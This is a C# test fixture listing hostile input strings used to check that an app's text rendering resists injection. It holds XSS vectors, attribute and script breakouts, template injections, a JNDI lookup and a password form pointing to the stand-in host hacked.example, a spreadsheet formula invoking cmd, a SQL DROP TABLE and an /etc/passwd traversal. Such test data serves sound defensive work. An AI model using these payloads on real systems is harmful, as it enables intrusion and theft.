using Board.Domain.Readings;

namespace Board.Tests.Shell;

/// <summary>
/// A hundred texts that would be more than text to something careless: markup, what breaks out of attributes, scripts, styles and comments,
/// addresses that run, templates, references, and letters that hide or turn others. Each that comes to life leaves the word
/// <c>hacked</c> where a test finds it.
/// </summary>
public static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Scripts.
        "<script>hacked=1</script>",
        "<SCRIPT SRC=//hacked.example/x.js></SCRIPT>",
        "<scr<script>ipt>hacked=2</scr</script>ipt>",
        "<script/x>hacked=3</script\u00A0>",
        "<script type=module>hacked=4</script>",
        "<script>alert`hacked`</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=hacked=5>\">",
        "<script type=importmap>{\"imports\":{\"hacked\":\"data:,hacked\"}}</script>",
        // Elements that load, and events that come by themselves.
        "<img src=x onerror=hacked=6>",
        "<img src=x onerror=\"hacked='6b'\"//",
        "<img/src/onerror=hacked=7>",
        "<img src='x'onerror='hacked=8'>",
        "<IMG \"\"\"><SCRIPT>hacked=9</SCRIPT>\">",
        "<image href=x onerror=hacked=10>",
        "<body onload=hacked=11>",
        "<input autofocus onfocus=hacked=12>",
        "<select autofocus onfocus=hacked=13>",
        "<textarea autofocus onfocus=hacked=14>",
        "<details open ontoggle=hacked=15><summary>x</summary></details>",
        "<video src=x onerror=hacked=16></video>",
        "<audio src onloadstart=hacked=17>",
        "<video><source onerror=hacked=18></video>",
        "<marquee onstart=hacked=19>x</marquee>",
        "<button popovertarget=x onbeforetoggle=hacked=20>x</button>",
        "<div onpointerover=hacked=21 style=position:fixed;inset:0>x</div>",
        "<x-hacked onanimationend=hacked=22 style=animation:x>x</x-hacked>",
        "<dialog open id=hacked>x</dialog>",
        // Frames and what is put into pages.
        "<iframe src=javascript:parent.hacked=23></iframe>",
        "<iframe srcdoc=\"<script>parent.hacked=24</script>\"></iframe>",
        "<object data=data:text/html,hacked></object>",
        "<embed src=//hacked.example/x.svg>",
        "<frameset onload=hacked=25>",
        "<applet code=hacked></applet>",
        "<base href=//hacked.example/>",
        "<meta http-equiv=refresh content=\"0;url=//hacked.example\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src * hacked\">",
        "<link rel=stylesheet href=//hacked.example/x.css>",
        "<form action=//hacked.example><input name=password>",
        "<template shadowrootmode=open><slot onslotchange=hacked=26></slot></template>",
        "<portal src=//hacked.example>",
        // Drawings and formulas.
        "<svg onload=hacked=27>",
        "<svg/onload=hacked=28//",
        "<svg><script>hacked=29</script></svg>",
        "<svg><script href=data:,hacked=30 /></svg>",
        "<svg><animate onbegin=hacked=31 attributeName=x dur=1s>",
        "<svg><a><set attributeName=href to=javascript:hacked=32 /><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='hacked'/>\"></use></svg>",
        "<svg><foreignObject><img src=x onerror=hacked=33></foreignObject></svg>",
        "<svg><style><img src=x onerror=hacked=34></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=hacked=35>",
        "<math href=javascript:hacked=36>x</math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=hacked=37>\">",
        // Addresses that run.
        "javascript:hacked=38",
        "JaVaScRiPt:hacked=39//",
        "<a href=javascript:hacked=40>x</a>",
        "<a href=\"jav&#x09;ascript:hacked=41\">x</a>",
        "<a href=\"&#106;avascript:hacked=42\">x</a>",
        "<a href=\"\u2028javascript:hacked=43\">x</a>",
        "vbscript:hacked",
        "data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9NDQ8L3NjcmlwdD4=",
        "<a href=//hacked.example ping=//hacked.example target=_top>x</a>",
        "//hacked.example/%2f..",
        // What breaks out of an attribute.
        "\" onmouseover=\"hacked=45",
        "' onmouseover='hacked=46",
        "` onmouseover=`hacked=47",
        "x onmouseover=hacked=48",
        "\"><img src=x onerror=hacked=49>",
        "'><img src=x onerror=hacked=50>",
        "\"/><svg/onload=hacked=51>",
        "\" autofocus onfocus=hacked=52 x=\"",
        "' style='background:url(//hacked.example)' x='",
        "\" formaction=\"javascript:hacked=53",
        // What ends a script, a text, a comment or a style.
        "</script><script>hacked=54</script>",
        "</ScRiPt ><img src=x onerror=hacked=55>",
        "\";hacked=56;//",
        "';hacked=57;//",
        "\\\";hacked=58;//",
        "\\u003cscript\\u003ehacked=59\\u003c/script\\u003e",
        "\\x3cscript\\x3ehacked=60\\x3c/script\\x3e",
        "\"}]};hacked=61;[{\"x\":\"",
        "x\u2028hacked=62\u2029//",
        "-->\u003cscript>hacked=63</script>",
        "--!><img src=x onerror=hacked=64>",
        "<!--><img src=x onerror=hacked=65>-->",
        "<!--[if IE]><script>hacked=66</script><![endif]-->",
        "<![CDATA[<img src=x onerror=hacked=67>]]>",
        "]]><script>hacked=68</script>",
        "<!--Blazor:{\"type\":\"server\",\"prerenderId\":\"hacked\"}-->",
        "</textarea><script>hacked=69</script>",
        "</title><script>hacked=70</script>",
        "</style><img src=x onerror=hacked=71>",
        "</template></select></option></table><img src=x onerror=hacked=72>",
        "<style>@import'//hacked.example';*{background:url(//hacked.example)}</style>",
        "<p style=\"background:url(javascript:hacked=73);width:expression(hacked=74)\">x</p>",
        "}body{background:url(//hacked.example)}",
        // Templates.
        "{{constructor.constructor('hacked=75')()}}",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> @(7*7) @Html.Raw(1) {0} {9} %s %n",
        "<div ng-app ng-csp><p ng-click=$event.view.hacked=76>x</p></div>",
        "${jndi:ldap://hacked.example/x}",
        "@{ hacked = 77; } @code { } <MudText>hacked</MudText>",
        // References and other spellings.
        "&lt;script&gt;hacked=78&lt;/script&gt;",
        "&amp;lt;img src=x onerror=hacked=79&amp;gt;",
        "&#60;img src=x onerror=hacked=80&#62; &#x3C;b&#x3E; &nbsp;&quot;&apos; &#0; &bogus;",
        "%3Cscript%3Ehacked=81%3C/script%3E %00 %0d%0aSet-Cookie:hacked=1",
        "+ADw-script+AD4-hacked=82+ADw-/script+AD4-",
        "＜script＞hacked=83＜/script＞ ﹤img src=x onerror=hacked=84﹥",
        "‹script›hacked=85‹/script›",
        // Letters that hide or turn others, and the odd ones.
        "\u202E<gpj.exe>\u202C \u2066<b id=hacked>\u2069",
        "<\u200Bscript>hacked=86</\u200Bscript>",
        "<scri\uFEFFpt>hacked=87</scri\u00ADpt>",
        "\u200F\u061Cجاوا\u200E <i class=hacked>",
        "Z\u0351\u034A\u0343a\u0323\u0315l\u0320g\u0322o <u id=hacked>",
        "😀👩\u200D👩\u200D👧 <b id=hacked> \U000E0041\uFFFD\uFDD0",
        // For others than browsers.
        "=HYPERLINK(\"//hacked.example\",\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'; DROP TABLE \"Readings\"; --",
        "../../../../etc/passwd ..\\..\\hacked",
    ];

    /// <summary>All of them, shared out among so many places.</summary>
    public static string[] Over(int places)
    {
        var shares = Enumerable.Range(0, places).Select(_ => new List<string>()).ToList();
        for (var i = 0; i < Math.Max(All.Count, places); i++) shares[i % places].Add(All[i % All.Count]);
        return [.. shares.Select(share => string.Join(' ', share))];
    }

    /// <summary>All of them in as few texts as a limit allows.</summary>
    public static IReadOnlyList<string> Within(int longest = ReadingRules.LongestNote)
    {
        List<string> texts = [""];
        foreach (var text in All)
            if (texts[^1].Length + text.Length < longest) texts[^1] = $"{texts[^1]} {text}".TrimStart(' ');
            else texts.Add(text);
        return texts;
    }
}
